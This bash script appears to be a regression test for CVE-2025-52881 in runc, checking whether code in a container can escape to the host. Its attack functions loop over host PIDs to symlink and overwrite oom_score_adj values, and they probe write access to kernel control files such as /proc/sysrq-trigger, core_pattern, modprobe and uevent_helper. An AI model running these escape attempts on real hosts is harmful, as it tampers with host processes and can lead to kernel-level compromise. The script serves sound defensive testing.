#!/bin/bash
# CVE-2025-52881, runc: writes of the runtime to files of /proc were redirected, by a link or another /proc,
# to files such as sysrq-trigger and core_pattern.
# Escaped: a file of a host process in /proc changes, or a control file of the kernel opens for writing.
# shellcheck disable=SC2317,SC2034,SC2016
NEEDS="commands"
. "${0%/*}/../lib.sh"
prepare() { sleep 1000 & victim=$!; before=$(cat /proc/$victim/oom_score_adj); }
attack()
{
    # a host process by its number, or whatever has a number inside; the control has only the victim
    [ "$BOX" = none ] && inside "echo 1000 >/proc/$victim/oom_score_adj"
    [ "$BOX" = none ] || inside "for c in /proc/[0-9]*; do ln -sf \$c/oom_score_adj x; echo 1000 >x; echo 1000 >\$c/oom_score_adj; done"
    after=$(cat /proc/$victim/oom_score_adj)
    kill $victim
    wait $victim
}
escaped() { [ "$before" != "$after" ]; }
attempt "the score of a host process"
prepare() { :; }
attack() { probe openw /proc/sysrq-trigger /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sys/vm/drop_caches /proc/sys/kernel/hotplug /sys/kernel/uevent_helper /sys/fs/cgroup/cgroup.procs /proc/irq/default_smp_affinity; }
escaped() { probe_escaped; }
attempt "control files of the kernel" test -w /proc/sys/kernel/core_pattern
